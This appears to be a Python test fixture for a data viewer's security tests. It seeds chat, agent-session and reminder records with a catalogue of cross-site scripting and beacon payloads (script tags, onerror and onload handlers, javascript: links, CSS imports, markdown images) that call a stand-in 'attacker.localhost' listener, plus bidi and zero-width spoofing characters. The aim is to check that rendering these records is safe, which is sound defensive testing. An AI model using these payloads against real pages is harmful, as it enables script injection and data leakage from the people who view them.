"""Items that attack whoever looks at them: every kind of payload at every place of a stored item that a page may show."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.data_access.layouts import Item

WORD = "beaconword"  # in every message, to be searched for
# Whoever runs code sets it.
RAN = "window.__ran = (window.__ran || 0) + 1"


@dataclass(slots=True)
class Attacker:
    """A listener on loopback that counts who comes. Browsers take every name under localhost for this machine."""

    port: int
    hits: list[str] = field(default_factory=list)

    @property
    def host(self) -> str:
        return f"attacker.localhost:{self.port}"

    def payloads(self, place: str) -> dict[str, str]:
        """Texts by kind; each would fetch an address of its own."""

        def url(kind: str) -> str:
            return f"http://{self.host}/{place}/{kind}"

        return {
            "image": f"![x]({url('image')})",
            "image with title": f'![x]({url("titled")} "t")',
            "image by reference": f"![x][r]\n\n[r]: {url('reference')}",
            "image in a link": f"[![x]({url('linked')})]({url('link')})",
            "image in a table": f"| a | b |\n|---|---|\n| ![x]({url('cell')}) | `b` |",
            "image in a directive": f":red[![x]({url('directive')})] :blue-badge[![x]({url('badge')})] :small[![x]({url('small')})]",
            "image behind escapes": f"\\!\\[x\\]({url('escaped')}) &#33;[x]({url('entity')}) !\u200b[x]({url('joined')})",
            "image element": f"<img src='{url('img')}' onerror='{RAN}'>",
            "error handler": f"<img src=x onerror=\"{RAN};fetch('{url('onerror')}')\">",
            "script": f"<script>{RAN};fetch('{url('script')}')</script>",
            "drawing": f"<svg onload=\"{RAN};fetch('{url('svg')}')\"><image href='{url('svgimage')}'/></svg>",
            "frame": f"<iframe src='{url('frame')}' srcdoc='<script>parent.{RAN}</script>'></iframe>",
            "style": f"<style>@import '{url('import')}'; body {{ background: url({url('style')}) }}</style>",
            "styled element": f"<div style=\"background-image:url('{url('background')}')\">x</div>",
            "object": f"<object data='{url('object')}'></object><embed src='{url('embed')}'>",
            "sound and film": f"<video src='{url('video')}' autoplay></video><audio src='{url('audio')}' autoplay></audio>",
            "head of a page": f"<base href='{url('base')}/'><link rel=stylesheet href='{url('css')}'><meta http-equiv=refresh "
            f"content='0;url={url('refresh')}'>",
            "form": f"<form action='{url('form')}'><input autofocus onfocus='{RAN}'></form>",
            "link": f"[x]({url('a')}) <a href='{url('anchor')}' ping='{url('ping')}'>x</a>",
            "address": f"<{url('auto')}> {url('bare')} www.{self.host}/{place}/www",
            "code in an address": f"[x](javascript:{RAN}) [y](data:text/html;base64,PHNjcmlwdD4=) <javascript:{RAN}>",
            "diagram and formula": f'```mermaid\ngraph TD; A[<img src="{url("mermaid")}">]\n```\n$$\\includegraphics{{{url("tex")}}}$$',
            "directions": "\u202efdp.exe\u202c \u2066a\u2069 pay\u200bpal \ufeff \x1b]8;;x\x07",
        }

    def short(self, place: str) -> str:
        """For an id, a name or a title: what fetches soonest, on one line."""
        return f"![x](http://{self.host}/{place}) <img src=http://{self.host}/{place}-img onerror='{RAN}'> :red[y] \u202ez"


@contextmanager
def listening() -> Iterator[Attacker]:
    attacker = Attacker(0)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            attacker.hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the names are http.server's

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - so is this
            del format, args

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    attacker.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield attacker
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@dataclass(frozen=True, slots=True)
class Ids:
    """Where the attacks lie."""

    user: str
    tenant: str
    cg: str
    ai_agent: str
    erased: str


def ids(attacker: Attacker) -> Ids:
    return Ids(*(attacker.short(place) for place in ("user", "tenant", "conversation", "session", "erased")))


def rows(attacker: Attacker) -> Iterator[tuple[str, Item]]:
    """The items, by table. What a page shows of an item is hostile: texts, names, ids, and what nobody expects in it."""
    named = ids(attacker)
    yield from _cg(attacker, named.cg, named.user)
    yield from _cg(attacker, f"{named.cg} again", named.erased)
    yield from _ai_agent(attacker, named)
    yield from _remo(attacker, named.user)


def _call(attacker: Attacker, place: str, kind: str, text: str) -> Item:
    name = attacker.short(f"{place}-tool")
    return {"tool": name, "args": {"q": text, attacker.short(f"{place}-key"): 1}, "result": {"html": text}, "status": kind}


def _said(attacker: Attacker, place: str, user: str, assistant: str) -> Iterator[Item]:
    for number, (kind, text) in enumerate(attacker.payloads(place).items()):
        moment = f"2026-11-10T10:{number:02}:00Z"
        turn: Mapping[str, Any] = {"role": assistant if number % 2 else user, "content": f"{text}\n\n{WORD} {kind}", "timestamp": moment}
        calls = [_call(attacker, place, "error" if number % 4 == 1 else "success", text)] if number % 2 else []
        yield {**turn, "tool_calls": calls} if calls else dict(turn)


def _cg(attacker: Attacker, conversation: str, user: str) -> Iterator[tuple[str, Item]]:
    said = [*_said(attacker, "cg", "user", "assistant")]
    # A role and a time that nobody knows: the page repeats them as what is wrong with the turn.
    said.append({"role": attacker.short("role"), "content": WORD, "timestamp": attacker.short("time")})
    item: Item = {"conversation_id": conversation, "user_id": user, "title": attacker.short("title"), "messages": said}
    item |= {"created_at": "2026-11-10T10:00:00Z", "updated_at": "2026-11-10T10:40:00Z", "message_count": len(said)}
    item |= {attacker.short("attribute"): attacker.short("value"), "metadata": attacker.payloads("metadata")}
    yield "cg-chatbot-conversations", item


def _ai_agent(attacker: Attacker, named: Ids) -> Iterator[tuple[str, Item]]:
    own = {"tenantId": named.tenant, "userId": named.user}
    times = {"createdAt": "2026-11-11T10:00:00.000Z", "updatedAt": "2026-11-11T10:40:00.000Z"}
    yield "ai-agent-sessions", own | times | {"id": named.ai_agent, "isActive": True, "metadata": attacker.payloads("session")}
    for number, turn in enumerate(_said(attacker, "agent", "user", "agent")):
        item: Item = own | {"id": f"m{number}", "sessionId": named.ai_agent, "content": turn["content"], "role": turn["role"]}
        calls = [{"name": call["tool"], "arguments": call["args"], "result": call["result"]} for call in turn.get("tool_calls", ())]
        item |= {"timestamp": f"2026-11-11T10:{number:02}:00.000Z", "metadata": {"tool_calls": calls, attacker.short("model"): 1}}
        yield "ai-agent-messages", item


def _remo(attacker: Attacker, user: str) -> Iterator[tuple[str, Item]]:
    own = {"user_id": user, "timestamp": "2026-11-12T10:00:00"}
    said = [*_said(attacker, "remo", "user", "assistant")]
    memory = {"conversation_id": "remo-1", "conversation_start_time": "2026-11-12T10:00:00", "last_activity": "2026-11-12T10:40:00"}
    yield "remo-user-data", own | {"data_type": "conversation_memory", "data": memory | {"memory_type": "buffer", "messages": said}}
    texts = attacker.payloads("record")
    reminders = [{"text": text, "title": kind, "due": text, "status": text, "id": str(n)} for n, (kind, text) in enumerate(texts.items())]
    yield "remo-user-data", own | {"data_type": "reminder_data", "data": {"reminders": reminders, attacker.short("field"): "x"}}
    yield "remo-user-data", own | {"data_type": "user_preferences", "data": {attacker.short("setting"): text for text in texts.values()}}
    yield "remo-user-data", own | {"data_type": "todo_data", "data": {"todos": [*texts.values()]}}
    yield "remo-user-data", own | {"data_type": attacker.short("kind"), "data": texts}
